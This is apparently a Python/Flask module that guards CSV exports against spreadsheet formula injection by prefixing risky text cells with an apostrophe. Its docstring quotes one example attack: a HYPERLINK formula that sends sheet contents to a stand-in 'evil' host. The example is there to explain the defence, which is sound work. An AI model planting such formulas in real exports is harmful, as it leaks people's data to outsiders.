"""CSV files people open in a spreadsheet: every export writes through here.

A cell starting with = + - @ (or a tab or carriage return, which some spreadsheets skip before
reading a formula) is run as a formula when the file is opened: a reviewer's comment
`=HYPERLINK("http://evil/?"&A1, "click")` would leak the sheet. Such text cells get a leading
apostrophe (OWASP's advice), which spreadsheets show as text. Numbers are written as numbers.
"""
from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Iterator, TextIO

from flask import Response, stream_with_context

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer or csv.DictWriter, with every text cell passed through `safe_cell`."""

    def __init__(self, inner: Any) -> None:
        self._inner = inner

    def writerow(self, row: Any) -> Any:
        if isinstance(row, dict):
            return self._inner.writerow({key: safe_cell(value) for key, value in row.items()})
        return self._inner.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Any]) -> None:
        for row in rows:
            self.writerow(row)

    def writeheader(self) -> Any:
        return self._inner.writeheader()


def writer(out: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(csv.writer(out, **options))


def dict_writer(out: TextIO, fieldnames: list[str], **options: Any) -> SafeWriter:
    return SafeWriter(csv.DictWriter(out, fieldnames=fieldnames, **options))


def lines(rows: Iterable[Iterable[Any]], **options: Any) -> Iterator[str]:
    """Each row (the header first) as one CSV line, made as it is asked for: a generator response
    built on this holds one row at a time, whatever the length of the export."""
    buffer = io.StringIO()
    out = writer(buffer, **options)
    for row in rows:
        buffer.seek(0)
        buffer.truncate()
        out.writerow(row)
        yield buffer.getvalue()


def attachment(body: Iterator[str], filename: str) -> Response:
    """A streamed text/csv download of `body` (the request context stays open while it is sent, so
    a query it reads from keeps its session); never cached, it holds people's data."""
    return Response(stream_with_context(body), mimetype="text/csv",
                    headers={"Content-Disposition": f'attachment; filename="{filename}"', "Cache-Control": "no-store"})
